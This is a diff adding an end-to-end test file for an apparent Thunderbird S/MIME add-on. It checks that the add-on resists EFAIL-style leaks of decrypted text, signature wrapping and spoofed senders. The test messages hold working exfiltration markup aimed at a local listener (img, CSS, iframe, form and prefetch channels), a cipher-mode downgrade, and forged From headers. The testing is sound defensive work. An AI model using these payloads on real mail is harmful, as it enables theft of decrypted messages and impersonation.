@@ -1,0 +1,274 @@
+// Messages made to deceive or to make decrypted text leave the machine: EFAIL and its kin, signatures that
+// do not cover what is shown, and senders who are not who they seem. Nothing is asked of the network
+// (a listener counts), nothing decrypted stands beside what somebody else wrote, no good icon appears.
+
+import assert from "node:assert/strict";
+import { mkdtempSync, rmSync } from "node:fs";
+import { createServer } from "node:http";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { asEnvelopedCbc } from "../support/cms_downgrade.mjs";
+import { Workshop, attachment, multipart, text } from "../support/encrypting.mjs";
+import { journeys } from "../support/journey.mjs";
+import { startSession } from "../support/session.mjs";
+import { waitUntil } from "../support/processes.mjs";
+import { builtXpi } from "../support/signet.mjs";
+
+const folder = mkdtempSync(path.join(tmpdir(), "signet-attacks-"));
+process.once("exit", () => rmSync(folder, { recursive: true, force: true }));
+
+/** @type {string[]} What was asked of the listener. */
+const asked = [];
+const listener = createServer((request, response) => {
+  asked.push(request.url ?? "");
+  response.end();
+});
+await new Promise((resolve) => {
+  listener.listen(0, "127.0.0.1", () => resolve(undefined));
+});
+listener.unref();
+const { port } = /** @type {import("node:net").AddressInfo} */ (listener.address());
+const AWAY = `http://127.0.0.1:${port}`;
+
+const BOB = { name: "Bob Lindqvist", address: "bob@harbour-clinic.example", user: "bob" };
+const ALICE = { name: "Alice Moreau", address: "alice@harbour-clinic.example" };
+
+const workshop = new Workshop(folder);
+const bob = workshop.person(BOB.name, BOB.address);
+const alice = workshop.person(ALICE.name, ALICE.address);
+const mallory = new Workshop(path.join(folder, "mallory")).person(ALICE.name, ALICE.address);
+
+const SECRET = "the safe opens with 4711";
+const encrypted = workshop.encrypt(text(SECRET), [bob]);
+const signed = workshop.sign(text("Pay nothing."), alice);
+
+/** @param {string} entity @param {string} title A part of a message, at a place of its own. */
+const attached = (entity, title) =>
+  `Content-Type: message/rfc822\r\n\r\nFrom: ${ALICE.name} <${ALICE.address}>\r\n` +
+  `Subject: ${title}\r\n${entity}`;
+
+/**
+ * @typedef {object} Attack
+ * @property {string} subject
+ * @property {string} entity
+ * @property {string} [signature] The icon.
+ * @property {string} [encryption] The icon.
+ * @property {RegExp} [words] In the message's text.
+ * @property {string} [from] In place of Alice's field.
+ * @property {Date} [date]
+ */
+
+const channels = [
+  `<img src="${AWAY}/img">`,
+  `<link rel="stylesheet" href="${AWAY}/css">`,
+  `<style>@import url("${AWAY}/import"); p { background: url("${AWAY}/background"); }</style>`,
+  `<meta http-equiv="refresh" content="0; url=${AWAY}/refresh">`,
+  `<iframe src="${AWAY}/frame"></iframe>`,
+  `<object data="${AWAY}/object"></object>`,
+  `<video src="${AWAY}/video" poster="${AWAY}/poster"></video>`,
+  `<form action="${AWAY}/form"><input name="text" value="${SECRET}"></form>`,
+  `<script src="${AWAY}/script"></script>`,
+  `<link rel="dns-prefetch" href="${AWAY}"><link rel="prefetch" href="${AWAY}/prefetch">`,
+  `<svg><image href="${AWAY}/svg"/></svg>`,
+].join("\r\n");
+
+/** @type {Attack[]} */
+const ATTACKS = [
+  {
+    subject: "1 HTML around the encrypted part",
+    entity: multipart("mixed", text(`<img src="${AWAY}/`, "html"), encrypted, text(`">`, "html")),
+    words: /encrypted by itself/,
+  },
+  {
+    subject: "2 every channel to the network, encrypted so that others can change it",
+    entity: workshop.encrypt(text(`<p>${SECRET}</p>${channels}`, "html"), [bob]),
+    encryption: "key",
+    words: new RegExp(SECRET),
+  },
+  {
+    subject: "3 authenticated encryption passed off as another",
+    entity: asEnvelopedCbc(workshop.encrypt(text(SECRET.repeat(20)), [bob], ["-aes-256-gcm"])),
+    encryption: "broken-key",
+    words: /damaged or changed/,
+  },
+  {
+    subject: "5a the encrypted part beside others",
+    entity: multipart("mixed", text("What do you think?"), encrypted),
+    words: /encrypted by itself/,
+  },
+  {
+    subject: "5b the encrypted part related to a page",
+    entity: multipart("related", text("<p>Hello</p>", "html"), encrypted),
+  },
+  {
+    subject: "5c the encrypted part as an alternative",
+    entity: multipart("alternative", text("Hello"), encrypted),
+  },
+  {
+    subject: "5d the encrypted part in an attached message",
+    entity: multipart("mixed", text("See below."), attached(encrypted, "Old mail")),
+    words: /encrypted by itself/,
+  },
+  {
+    subject: "7 a signature that brings a content of its own",
+    entity: signed.replace(
+      /(Content-Type: application\/x?-?pkcs7-signature[^]*?\r\n\r\n)[^]*?(\r\n\r\n)/,
+      (_all, before, after) => {
+        const own = workshop.sign(text("Pay at once."), alice, ["-nodetach"]);
+        return before + own.slice(own.indexOf("\r\n\r\n") + 4).trimEnd() + after;
+      },
+    ),
+    signature: "broken-pen",
+  },
+  {
+    subject: "8 a second signer whom nobody knows",
+    entity: workshop.sign(text("Both of us."), alice, ["-signer", mallory.certificate, "-inkey", mallory.key]),
+    signature: "broken-pen",
+  },
+  {
+    subject: "10 a certificate that Mallory made, with the right address",
+    entity: workshop.sign(text("It is me."), mallory),
+    signature: "broken-pen",
+  },
+  {
+    subject: "11a text before the signed part",
+    entity: multipart("mixed", text("Pay at once."), signed),
+  },
+  {
+    subject: "11b the signed part as an attachment",
+    entity: multipart("mixed", text("Pay at once."), attached(signed, "Old mail")),
+  },
+  {
+    subject: "11c the signed part hidden by style",
+    entity: multipart(
+      "related",
+      text('<p>Pay at once.</p><div style="display:none"><object data="cid:signed"></object></div>', "html"),
+      signed,
+    ),
+  },
+  {
+    subject: "11d the opaquely signed part beside others",
+    entity: multipart("mixed", text("Pay at once."), workshop.sign(text("Inside."), alice, ["-nodetach"])),
+    words: /signed by itself[^]*Inside\./,
+  },
+  {
+    subject: "12a somebody else signs, with the address as a name",
+    entity: workshop.sign(text("It is me."), alice),
+    from: `"alice@harbour-clinic.example" <mallory@elsewhere.example>`,
+    signature: "broken-pen",
+  },
+  {
+    subject: "12b two senders",
+    entity: workshop.sign(text("It is us."), alice),
+    from: `${ALICE.name} <${ALICE.address}>, Mallory <mallory@elsewhere.example>`,
+    signature: "broken-pen",
+  },
+  {
+    subject: "12c two From fields",
+    entity: workshop.sign(text("It is us."), alice),
+    from: `${ALICE.name} <${ALICE.address}>\r\nFrom: Mallory <mallory@elsewhere.example>`,
+    signature: "broken-pen",
+  },
+  {
+    subject: "13 a page that draws the icon itself",
+    entity: multipart(
+      "mixed",
+      text(
+        `<img id="drawn" src="chrome://signet/content/skin/pen.svg"><img src="resource://signet/pen.svg">`,
+        "html",
+      ),
+      attachment("plan.txt", Buffer.from("nothing")),
+    ),
+  },
+  {
+    subject: "15 an old message sent again",
+    entity: workshop.sign(text("Meet me now."), alice),
+    date: new Date(Date.now() - 3 * 24 * 60 * 60 * 1000),
+    signature: "broken-pen",
+  },
+];
+
+/** @param {Attack} attack */
+function messageOf({ subject, entity, from, date }) {
+  let message = workshop.message(subject, ALICE, BOB, entity).toString("latin1");
+  if (from) {
+    message = message.replace(/^From: .*$/m, () => `From: ${from}`);
+  }
+  if (date) {
+    message = message.replace(/^Date: .*$/m, `Date: ${date.toUTCString().replace("GMT", "+0000")}`);
+  }
+  return Buffer.from(message, "latin1");
+}
+
+const start = async () => {
+  const session = await startSession({
+    xpi: builtXpi(),
+    person: BOB,
+    messages: ATTACKS.map(messageOf),
+    anchors: [workshop.authority.certificate],
+    key: workshop.keyFile(bob),
+    // Even where a person has allowed all pictures.
+    preferences: { "mailnews.message_display.disable_remote_image": false },
+  });
+  await session.mail.openInbox(ATTACKS.length);
+  return session;
+};
+
+journeys("message-security-attacks", start, (journey) => {
+  for (const { subject, signature = "none", encryption = "none", words } of ATTACKS) {
+    journey(subject, async (session) => {
+      const { mail, signet } = session;
+      await mail.select(subject);
+      const header = await signet.judged(subject);
+      const body = await mail.bodyText();
+      assert.equal(header.signature, signature);
+      assert.equal(header.encryption, encryption);
+      assert.equal(header.hostIcons, false);
+      if (encryption !== "key") {
+        assert.doesNotMatch(body, new RegExp(SECRET));
+      }
+      if (words) {
+        assert.match(body, words);
+      }
+      assert.deepEqual(asked, []);
+      if (encryption === "none") {
+        const answer = await session.compose.answer("cmd_reply");
+        await session.compose.discard();
+        assert.doesNotMatch(answer.text, new RegExp(SECRET));
+      }
+      assert.deepEqual(asked, []);
+    });
+  }
+
+  journey("the person sees a bar and decides", async (session) => {
+    const { mail, signet, thunderbird } = session;
+    const [, { subject }] = ATTACKS;
+    await mail.select(subject);
+    await signet.judged(subject);
+    await thunderbird.waitFor("the bar", () => {
+      const { gMessageNotificationBar } = document.getElementById("tabmail").currentAboutMessage;
+      const box = gMessageNotificationBar.msgNotificationBar;
+      return !!box.getNotificationWithValue("signet-remote-content");
+    });
+    await session.screenshot("message-security-remote-content-bar");
+    assert.deepEqual(asked, []);
+    await thunderbird.run(() => {
+      const { gMessageNotificationBar } = document.getElementById("tabmail").currentAboutMessage;
+      const box = gMessageNotificationBar.msgNotificationBar;
+      box.getNotificationWithValue("signet-remote-content").buttonContainer.firstElementChild.click();
+    });
+    await thunderbird.waitFor("the picture", () => {
+      const message = document.getElementById("tabmail").currentAboutMessage;
+      return message.msgLoaded && !!message.getMessagePaneBrowser().contentDocument?.images[0];
+    });
+    await waitUntil("a request", async () => asked.length > 0);
+    assert.ok(asked.includes("/img"), asked.join(" "));
+    // The next message decides anew.
+    asked.length = 0;
+    await mail.select(ATTACKS[0].subject);
+    await mail.select(subject);
+    await signet.judged(subject);
+    await mail.bodyText();
+    assert.deepEqual(asked, []);
+  });
+});
